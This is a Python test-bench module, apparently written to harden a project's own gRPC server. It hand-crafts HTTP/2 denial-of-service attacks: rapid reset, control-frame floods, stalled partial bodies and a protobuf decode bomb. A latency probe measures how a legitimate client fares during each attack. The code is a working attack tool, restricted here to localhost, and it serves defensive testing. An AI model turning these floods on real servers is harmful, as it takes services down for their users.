"""HTTP/2 attacks on a Fleet gRPC server, for the hostile-peer tests and by hand.

    python -m bench.attack_h2 rapid-reset --port 50051 --certs .fleet/certs --as node-a
    python -m bench.attack_h2 partial-bodies --port 50051 --certs .fleet/certs --as node-a \\
        --connections 3 --streams 100 --hold 15
    python -m bench.attack_h2 {ping-flood,settings-flood,window-flood,priority-flood} ...
    python -m bench.attack_h2 bomb --port 50051 --certs ... --as node-a \\
        --path /fleet.manager.v1.ManagerService/SyncAgentStates --entries 1000000

Each attack prints one JSON object: what was sent, what the server answered (GOAWAY
code and debug data, stream resets, gRPC statuses), how long it took. Frames are written
by hand (``bench._rawh2``'s helpers) so the attacker can do what no client library
would: reset streams as fast as it opens them, send bodies it never finishes, flood
control frames. Every attack is bounded in frames and in seconds and only dials the
address given (tests: 127.0.0.1). See docs/security.md, "Hostile peers".
"""

from __future__ import annotations

import argparse
import asyncio
import json
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from hpack import Decoder

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bench._rawh2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MAX_WINDOW,
    PADDED,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    _frame,
    request_headers,
)

CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
PRIORITY_FRAME = 0x2  # the frame type (bench._rawh2.PRIORITY is the HEADERS flag)
_INITIAL_WINDOW = 65_535


@dataclass
class Outcome:
    """What the server did to one attacking connection."""

    goaway_code: int | None = None
    goaway_debug: str = ""
    closed: bool = False
    resets: dict[int, int] = field(default_factory=dict)  # stream -> RST_STREAM code
    statuses: dict[int, str] = field(default_factory=dict)  # stream -> grpc-status name
    messages: dict[int, str] = field(default_factory=dict)  # stream -> grpc-message


class Peer(asyncio.Protocol):
    """One raw HTTP/2 client connection: writes what it is told, records what comes back."""

    def __init__(self, notify: asyncio.Event | None = None) -> None:
        self.outcome = Outcome()
        # Set whenever the server ends a stream or the connection (shared by attacks that
        # watch many connections).
        self.notify = notify or asyncio.Event()
        self.closed: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self.send_window = _INITIAL_WINDOW
        self.stream_windows: dict[int, int] = {}
        self.initial_stream_window = _INITIAL_WINDOW
        self.window_changed = asyncio.Event()
        self.ended: dict[int, float] = {}  # stream -> when the server ended it
        self._transport: asyncio.Transport | None = None
        self._writable = asyncio.Event()
        self._writable.set()
        self._buffer = bytearray()
        self._decoder = Decoder()
        self._block: tuple[int, bytearray] | None = None

    # ---- connection ----

    @classmethod
    async def open(
        cls,
        host: str,
        port: int,
        context: ssl.SSLContext | None,
        notify: asyncio.Event | None = None,
        *,
        open_window: bool = True,
    ) -> Peer:
        """Connect and send the preface; ``open_window``: let the server send us as much
        as HTTP/2 allows (off for the WINDOW_UPDATE flood, which opens it 1 byte a frame)."""
        loop = asyncio.get_running_loop()
        peer = cls(notify)
        await loop.create_connection(
            lambda: peer, host, port, ssl=context, server_hostname=host if context else None
        )
        settings = struct.pack(">HI", 0x2, 0) + struct.pack(">HI", 0x4, MAX_WINDOW)
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0, settings)
        if open_window:
            increment = struct.pack(">I", MAX_WINDOW - _INITIAL_WINDOW)
            preface += _frame(WINDOW_UPDATE, 0, 0, increment)
        peer.write(preface)
        return peer

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = transport  # type: ignore[assignment]

    def connection_lost(self, exc: Exception | None) -> None:
        self.outcome.closed = True
        self._writable.set()
        self.window_changed.set()
        self.notify.set()
        if not self.closed.done():
            self.closed.set_result(None)

    def pause_writing(self) -> None:
        self._writable.clear()

    def resume_writing(self) -> None:
        self._writable.set()

    def write(self, data: bytes) -> None:
        if self._transport is not None and not self._transport.is_closing():
            self._transport.write(data)

    async def drain(self) -> None:
        await self._writable.wait()

    def close(self) -> None:
        if self._transport is not None:
            self._transport.close()

    @property
    def is_closed(self) -> bool:
        return self.closed.done() or self.outcome.goaway_code is not None

    # ---- frames in ----

    def data_received(self, data: bytes) -> None:
        buf = self._buffer
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            stream = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
            self._frame_in(kind, flags, stream, bytes(buf[pos + 9 : pos + 9 + length]))
            pos += 9 + length
        del buf[:pos]

    def _frame_in(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i : i + 6])
                if ident == 0x4:
                    delta = value - self.initial_stream_window
                    self.initial_stream_window = value
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += delta
            self.write(_frame(SETTINGS, ACK, 0, b""))
            self.window_changed.set()
        elif kind == PING and not flags & ACK:
            self.write(_frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if stream == 0:
                self.send_window += increment
            elif stream in self.stream_windows:
                self.stream_windows[stream] += increment
            self.window_changed.set()
        elif kind == RST_STREAM:
            self.outcome.resets.setdefault(stream, struct.unpack(">I", payload)[0])
            self.ended.setdefault(stream, time.monotonic())
            self.stream_windows.pop(stream, None)
            self.window_changed.set()
            self.notify.set()
        elif kind == GOAWAY:
            self.outcome.goaway_code = struct.unpack(">I", payload[4:8])[0]
            self.outcome.goaway_debug = payload[8:].decode(errors="replace")
            self.window_changed.set()
            self.notify.set()
        elif kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                if flags & PADDED:
                    payload = payload[1 : len(payload) - payload[0]]
                if flags & PRIORITY:
                    payload = payload[5:]
                self._block = (stream, bytearray(payload))
            elif self._block is not None:
                self._block[1].extend(payload)
            if flags & END_HEADERS and self._block is not None:
                sid, block = self._block
                self._block = None
                for name, value in self._decoder.decode(bytes(block)):
                    key = name if isinstance(name, str) else name.decode()
                    text = value if isinstance(value, str) else value.decode()
                    if key == "grpc-message":
                        self.outcome.messages[sid] = unquote(text)
                    elif key == "grpc-status":
                        self.outcome.statuses[sid] = _status_name(int(text))
                        self.ended.setdefault(sid, time.monotonic())
                        self.stream_windows.pop(sid, None)
                        self.window_changed.set()
                        self.notify.set()
        elif kind == DATA and flags & END_STREAM:
            self.ended.setdefault(stream, time.monotonic())
            self.notify.set()


def _status_name(code: int) -> str:
    from grpclib.const import Status

    try:
        return Status(code).name
    except ValueError:
        return str(code)


# --------------------------------------------------------------------------- attacks


@dataclass
class Target:
    host: str
    port: int
    context: ssl.SSLContext | None
    path: str = "/fleet.manager.v1.ManagerService/Heartbeat"


@dataclass
class FloodResult:
    attack: str
    connections: int = 0
    frames_sent: int = 0
    frames_before_goaway: list[int] = field(default_factory=list)
    goaway_codes: list[int | None] = field(default_factory=list)
    goaway_debug: list[str] = field(default_factory=list)
    refused_at_connect: int = 0  # connections turned away at once (cooling down)
    seconds: float = 0.0


def _frames_for(attack: str, stream: int, block: bytes) -> bytes:
    if attack == "rapid-reset":
        return _frame(HEADERS, END_HEADERS, stream, block) + _frame(
            RST_STREAM, 0, stream, struct.pack(">I", CANCEL)
        )
    if attack == "ping-flood":
        return _frame(PING, 0, 0, struct.pack(">Q", stream))
    if attack == "settings-flood":
        return _frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, MAX_WINDOW))
    if attack == "window-flood":
        return _frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    if attack == "priority-flood":  # PRIORITY for idle streams: allowed, and costs the server
        return _frame(PRIORITY_FRAME, 0, stream, struct.pack(">IB", 0, 15))
    raise ValueError(attack)


async def flood(
    target: Target,
    attack: str,
    *,
    frames: int = 100_000,
    batch: int = 100,
    seconds: float = 20.0,
    connections: int = 1,
) -> FloodResult:
    """Send up to ``frames`` flood frames (HEADERS+RST_STREAM pairs for ``rapid-reset``)
    in batches, for at most ``seconds``; after a GOAWAY, dial again (up to
    ``connections`` connections in all) until the frames or the time run out."""
    result = FloodResult(attack=attack)
    block = request_headers(target.path, f"{target.host}:{target.port}", None)
    started = time.monotonic()
    try:
        async with asyncio.timeout(seconds):
            while result.frames_sent < frames:
                peer = await Peer.open(
                    target.host, target.port, target.context, open_window=attack != "window-flood"
                )
                result.connections += 1
                sent, stream = 0, 1
                while result.frames_sent < frames and not peer.is_closed:
                    chunk = b"".join(
                        _frames_for(attack, stream + 2 * i, block) for i in range(batch)
                    )
                    stream += 2 * batch
                    peer.write(chunk)
                    sent += batch
                    result.frames_sent += batch
                    await peer.drain()
                    await asyncio.sleep(0)  # let replies (GOAWAY) in
                with _suppress_timeout():  # the GOAWAY (or the close) may still be coming
                    async with asyncio.timeout(2.0):
                        while not peer.is_closed:
                            peer.notify.clear()
                            await peer.notify.wait()
                peer.close()
                result.frames_before_goaway.append(sent)
                result.goaway_codes.append(peer.outcome.goaway_code)
                result.goaway_debug.append(peer.outcome.goaway_debug)
                if sent <= batch and peer.outcome.goaway_debug == "cooling_down":
                    result.refused_at_connect += 1
                if result.connections >= connections:
                    break
    except TimeoutError:
        pass
    result.seconds = time.monotonic() - started
    return result


class _suppress_timeout:
    def __enter__(self) -> None:
        return None

    def __exit__(self, kind: object, *_: object) -> bool:
        return kind is TimeoutError


@dataclass
class PartialResult:
    connections: int
    streams: int
    announced: int
    bytes_sent: int = 0
    full_streams: int = 0  # streams that got all their bytes but one in
    statuses: dict[str, int] = field(default_factory=dict)  # grpc-status -> streams
    resets: dict[int, int] = field(default_factory=dict)  # RST_STREAM code -> streams
    unanswered: int = 0  # streams the server never ended
    last_end_after: float = 0.0  # seconds from the last byte sent to the last stream ended
    goaway_codes: list[int | None] = field(default_factory=list)
    seconds: float = 0.0


async def partial_bodies(
    target: Target,
    *,
    connections: int = 3,
    streams: int = 100,
    announced: int = 4 * 1024 * 1024 - 64,
    hold: float = 15.0,
    seconds: float = 60.0,
) -> PartialResult:
    """Open ``streams`` calls on each of ``connections`` connections, announce a request
    of ``announced`` bytes on each, send all of it but the last byte as fast as the
    server's flow control allows, then hold the connections for up to ``hold`` seconds
    while the server ends (or not) the streams."""
    result = PartialResult(connections=connections, streams=streams, announced=announced)
    started = time.monotonic()
    notify = asyncio.Event()
    peers = [
        await Peer.open(target.host, target.port, target.context, notify)
        for _ in range(connections)
    ]
    block = request_headers(target.path, f"{target.host}:{target.port}", None)
    last_sent = time.monotonic()
    try:
        async with asyncio.timeout(seconds):
            senders = [_fill(peer, block, streams, announced, result) for peer in peers]
            await asyncio.gather(*senders)
            last_sent = time.monotonic()
            deadline = last_sent + hold

            def all_ended() -> bool:
                return all(len(p.ended) >= streams or p.outcome.closed for p in peers)

            while not all_ended() and time.monotonic() < deadline:
                notify.clear()
                with _suppress_timeout():
                    async with asyncio.timeout(max(0.0, deadline - time.monotonic())):
                        await notify.wait()
    except TimeoutError:
        pass
    for peer in peers:
        for sid in range(1, 2 * streams, 2):
            if sid in peer.outcome.statuses:
                name = peer.outcome.statuses[sid]
                result.statuses[name] = result.statuses.get(name, 0) + 1
            elif sid in peer.outcome.resets:
                code = peer.outcome.resets[sid]
                result.resets[code] = result.resets.get(code, 0) + 1
            elif not peer.outcome.closed:
                result.unanswered += 1
        if peer.ended:
            result.last_end_after = max(result.last_end_after, max(peer.ended.values()) - last_sent)
        result.goaway_codes.append(peer.outcome.goaway_code)
        peer.close()
    result.seconds = time.monotonic() - started
    return result


async def _fill(
    peer: Peer, block: bytes, streams: int, announced: int, result: PartialResult
) -> None:
    ids = list(range(1, 2 * streams, 2))
    peer.write(b"".join(_frame(HEADERS, END_HEADERS, sid, block) for sid in ids))
    for sid in ids:
        peer.stream_windows[sid] = peer.initial_stream_window
    total = announced + 5 - 1  # all but the last byte
    left = dict.fromkeys(ids, total)
    first = dict.fromkeys(ids, True)
    prefix = b"\x00" + struct.pack(">I", announced)
    while left and not peer.outcome.closed:
        progressed = False
        for sid in list(left):
            if sid in peer.ended or sid not in peer.stream_windows:
                del left[sid]
                continue
            room = min(peer.send_window, peer.stream_windows[sid], 16_384, left[sid])
            if room < (5 if first[sid] else 1):
                continue
            payload = (prefix + bytes(room - 5)) if first[sid] else bytes(room)
            first[sid] = False
            peer.write(_frame(DATA, 0, sid, payload))
            peer.send_window -= room
            peer.stream_windows[sid] -= room
            left[sid] -= room
            result.bytes_sent += room
            progressed = True
            if not left[sid]:
                result.full_streams += 1
                del left[sid]
        await peer.drain()
        if not progressed:
            peer.window_changed.clear()
            try:
                async with asyncio.timeout(2.0):  # the server stopped reading: we are done
                    await peer.window_changed.wait()
            except TimeoutError:
                return


@dataclass
class BombResult:
    path: str
    body_bytes: int
    status: str
    message: str
    seconds: float


async def bomb(target: Target, body: bytes, *, timeout: float = 60.0) -> BombResult:
    """One unary call whose request message is ``body`` (sent as fast as the server's
    flow control allows); its status, message and the seconds from the first byte sent
    to the answer."""
    peer = await Peer.open(target.host, target.port, target.context)
    sid = 1
    data = b"\x00" + struct.pack(">I", len(body)) + body
    started = time.monotonic()
    try:
        async with asyncio.timeout(timeout):
            block = request_headers(target.path, f"{target.host}:{target.port}", None)
            peer.write(_frame(HEADERS, END_HEADERS, sid, block))
            peer.stream_windows[sid] = peer.initial_stream_window
            sent = 0
            while sent < len(data) and sid not in peer.ended and not peer.outcome.closed:
                room = min(peer.send_window, peer.stream_windows.get(sid, 0), 16_384)
                room = min(room, len(data) - sent)
                if room <= 0:
                    peer.window_changed.clear()
                    await peer.window_changed.wait()
                    continue
                last = sent + room == len(data)
                peer.write(_frame(DATA, END_STREAM if last else 0, sid, data[sent : sent + room]))
                peer.send_window -= room
                peer.stream_windows[sid] -= room
                sent += room
                await peer.drain()
            while sid not in peer.ended and not peer.outcome.closed:
                peer.notify.clear()
                await peer.notify.wait()
        status = peer.outcome.statuses.get(sid)
        if status is None:
            code = peer.outcome.resets.get(sid)
            status = f"RST_STREAM({code})" if code is not None else "CLOSED"
        message = peer.outcome.messages.get(sid, "")
    except TimeoutError:
        status, message = "TIMEOUT", f"no answer within {timeout:g} s"
    finally:
        peer.close()
    return BombResult(target.path, len(body), status, message, time.monotonic() - started)


async def unix_bomb(
    path: str,
    socket_path: str,
    body: bytes,
    *,
    timeout: float = 60.0,
    metadata: dict[str, str] | None = None,
) -> BombResult:
    """``bomb`` over a Unix socket (the Daemon's agent API), with grpclib's client and
    the request ``metadata`` (an agent's credentials)."""
    from grpclib.client import Channel
    from grpclib.const import Cardinality
    from grpclib.exceptions import GRPCError

    channel = Channel(path=socket_path)
    started = time.monotonic()
    try:
        async with asyncio.timeout(timeout):
            stream: Any
            async with channel.request(
                path, Cardinality.UNARY_UNARY, RawMessage, RawMessage, metadata=metadata
            ) as stream:
                await stream.send_message(RawMessage(body), end=True)
                await stream.recv_message()
        status, message = "OK", ""
    except GRPCError as exc:
        status, message = exc.status.name, exc.message or ""
    finally:
        channel.close()
    return BombResult(path, len(body), status, message, time.monotonic() - started)


class RawMessage:
    """A "message" that is already bytes, for grpclib's client: its codec calls
    ``SerializeToString`` and ``FromString``, so hand-built bodies go out as they are."""

    def __init__(self, data: bytes = b"") -> None:
        self.data = data

    def SerializeToString(self) -> bytes:
        return self.data

    @classmethod
    def FromString(cls, data: bytes) -> RawMessage:
        return cls(data)


def varint(value: int) -> bytes:
    """``value`` as a protobuf varint."""
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def length_delimited(number: int, payload: bytes) -> bytes:
    """Field ``number`` holding ``payload`` (wire type 2: bytes, string, submessage)."""
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def repeated_empty(field_number: int, entries: int) -> bytes:
    """A message of ``entries`` empty submessages in field ``field_number`` (2 bytes each
    for fields 1-15): the cheapest decode bomb there is."""
    return bytes((field_number << 3 | 2, 0)) * entries


class Probe:
    """A legitimate client's view during an attack: ``call`` made back to back (one at a
    time, ``interval`` apart) until :meth:`stop`; latencies and errors recorded.

        async with Probe(lambda: stub.heartbeat(req)) as probe:
            ... attack ...
        assert probe.p99 < 0.25 and not probe.errors
    """

    def __init__(self, call: Callable[[], Awaitable[Any]], *, interval: float = 0.05) -> None:
        self._call = call
        self._interval = interval
        self.latencies: list[float] = []
        self.started: list[float] = []  # time.monotonic() at each call's start
        self.errors: list[str] = []
        self._stop = asyncio.Event()
        self._task: asyncio.Task[None] | None = None

    async def __aenter__(self) -> Probe:
        self._task = asyncio.create_task(self._run())
        return self

    async def __aexit__(self, *exc: object) -> None:
        self._stop.set()
        if self._task is not None:
            await self._task

    async def _run(self) -> None:
        while not self._stop.is_set():
            started = time.perf_counter()
            self.started.append(time.monotonic())
            try:
                await self._call()
            except asyncio.CancelledError:
                raise
            except Exception as exc:
                self.errors.append(f"{type(exc).__name__}: {exc}")
            self.latencies.append(time.perf_counter() - started)
            with _suppress_timeout():
                async with asyncio.timeout(self._interval):
                    await self._stop.wait()

    @property
    def p99(self) -> float:
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else 0.0

    def summary(self) -> str:
        ordered = sorted(self.latencies) or [0.0]
        slow = [
            f"{(at - self.started[0]):.2f}s:{took * 1000:.0f}ms"
            for at, took in zip(self.started, self.latencies, strict=False)
            if took > 0.1
        ]
        return (
            f"{len(self.latencies)} calls, {len(self.errors)} errors, "
            f"p50 {ordered[len(ordered) // 2] * 1000:.1f} ms, p99 {self.p99 * 1000:.1f} ms, "
            f"max {ordered[-1] * 1000:.1f} ms" + (f", > 100 ms at {slow}" if slow else "")
        )


# --------------------------------------------------------------------------- command line


def _context(certs: Path, name: str, server_role: str) -> ssl.SSLContext:
    from common.tls import TLSFiles, client_context

    files = TLSFiles(certs / f"{name}.crt", certs / f"{name}.key", certs / "ca.crt")
    return client_context(files, expect_role=server_role)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument(
        "attack",
        choices=[
            "rapid-reset",
            "ping-flood",
            "settings-flood",
            "window-flood",
            "priority-flood",
            "partial-bodies",
            "bomb",
        ],
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--certs", type=Path, help="directory with ca.crt and <name>.crt/.key")
    parser.add_argument("--as", dest="name", default="node-a", help="certificate to present")
    parser.add_argument("--server-role", default="manager", help="identity the server must have")
    parser.add_argument("--path", default="/fleet.manager.v1.ManagerService/Heartbeat")
    parser.add_argument("--frames", type=int, default=100_000)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument(
        "--connections", type=int, help="connections (floods: 1, dial again after a GOAWAY; "
        "partial-bodies: 3, all at once)",
    )  # fmt: skip
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--announce", type=int, default=4 * 1024 * 1024 - 64)
    parser.add_argument("--hold", type=float, default=15.0)
    parser.add_argument("--field", type=int, default=2, help="bomb: repeated field number")
    parser.add_argument("--entries", type=int, default=1_000_000)
    args = parser.parse_args(argv)
    if args.host not in ("127.0.0.1", "localhost", "::1"):
        parser.error("attacks only dial the local machine")
    context = _context(args.certs, args.name, args.server_role) if args.certs else None
    target = Target(args.host, args.port, context, args.path)
    run: Callable[[], Coroutine[Any, Any, Any]]
    if args.attack == "partial-bodies":

        def run() -> Coroutine[Any, Any, Any]:
            return partial_bodies(
                target,
                connections=args.connections or 3,
                streams=args.streams,
                announced=args.announce,
                hold=args.hold,
                seconds=args.seconds + args.hold,
            )

    elif args.attack == "bomb":

        def run() -> Coroutine[Any, Any, Any]:
            return bomb(target, repeated_empty(args.field, args.entries), timeout=args.seconds)

    else:

        def run() -> Coroutine[Any, Any, Any]:
            return flood(
                target, args.attack, frames=args.frames, seconds=args.seconds,
                connections=args.connections or 1,
            )  # fmt: skip

    print(json.dumps(asdict(asyncio.run(run()))), flush=True)


if __name__ == "__main__":
    main()
